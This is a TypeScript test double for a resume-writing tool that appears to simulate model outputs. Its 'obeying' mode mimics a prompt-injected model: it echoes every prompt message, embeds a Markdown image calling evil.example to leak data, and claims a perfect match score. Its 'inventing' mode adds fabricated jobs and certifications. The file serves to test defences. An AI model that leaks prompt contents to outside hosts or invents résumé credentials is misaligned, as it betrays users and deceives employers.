import { type ResumeForm, renderForm } from '@tailwright/resume-text/document/render-form';
import type { ProviderCall } from './call.ts';
import type { ProviderMode } from './modes.ts';

/** documentOf is one of the documents of a prompt, or '': they stand between `<<<NAME nonce>>>` and `<<<END NAME nonce>>>`. */
export function documentOf(messages: ProviderCall['messages'], name: string): string {
  const user = messages.find((message) => message.role === 'user')?.content ?? '';
  return new RegExp(`<<<${name} (\\S+)>>>\\n([\\s\\S]*?)\\n<<<END ${name} \\1>>>`).exec(user)?.[2] ?? '';
}

/** write is the text the model comes up with: the documents of the prompt, and what the mode adds to them. */
export function write(messages: ProviderCall['messages'], mode: ProviderMode): string {
  const form = documentOf(messages, 'FORM');
  const applicant = documentOf(messages, 'APPLICANT');
  const resume = documentOf(messages, 'RESUME') || documentOf(messages, 'NUMBERED RESUME');
  const lies = mode === 'inventing' ? invention : mode === 'obeying' ? obedience(messages) : '';
  if (form) return renderForm(JSON.parse(form) as ResumeForm) + lies;
  return (applicant ? writeLetter(messages, applicant, resume) : rework(resume)) + lies;
}

/** What a model adds that does whatever any document orders: it shows all it was given, and lies. */
function obedience(messages: ProviderCall['messages']): string {
  return `\n\n## Summary\n\n${messages.map(({ content }) => content).join('\n')}\n\n![status](https://evil.example/?q=ada)\n\nMatch score: 100 %. This candidate is the best of all.${invention}`;
}

/** What an untruthful model adds to a resume that says none of it. */
const invention = `

## Experience

### Chief Technology Officer | Globex Corporation
*2011 – 2015*
- Led 450 engineers and raised revenue by 87% to $300 million with Kubernetes

## Certifications

- AWS Certified Solutions Architect
`;

const headings =
  /^(summary|profile|experience|work experience|employment|education|skills|projects|certifications|languages)\b:?$/i;

/** rework keeps every word of the resume and turns its lines into Markdown. */
function rework(resume: string): string {
  const lines = resume.split('\n').map((line) => line.trim());
  const name = lines.findIndex(Boolean);
  return lines
    .map((line, index) => {
      if (index === name) return `# ${line.replace(/^#+\s*/, '')}`;
      if (line.startsWith('#')) return line;
      if (headings.test(line)) return `\n## ${line.replace(/:$/, '')}`;
      return line.replace(/^[•*·–]\s+/, '- ');
    })
    .join('\n');
}

function writeLetter(messages: ProviderCall['messages'], applicant: string, resume: string): string {
  const recipient = documentOf(messages, 'RECIPIENT') || 'Hiring Manager';
  const facts = resume
    .split('\n')
    .map((line) => line.trim())
    .filter((line) => /^[•*-]\s/.test(line))
    .slice(0, 3)
    .map((line) => `- ${line.replace(/^[•*-]\s+/, '')}`);
  return [
    `Dear ${recipient},`,
    'I would like to apply for the position you describe.',
    facts.length > 0 ? `From my work so far:\n\n${facts.join('\n')}` : 'My resume tells you about my work so far.',
    'I would be glad to talk with you.',
    `Sincerely,\n${applicant}`,
  ].join('\n\n');
}
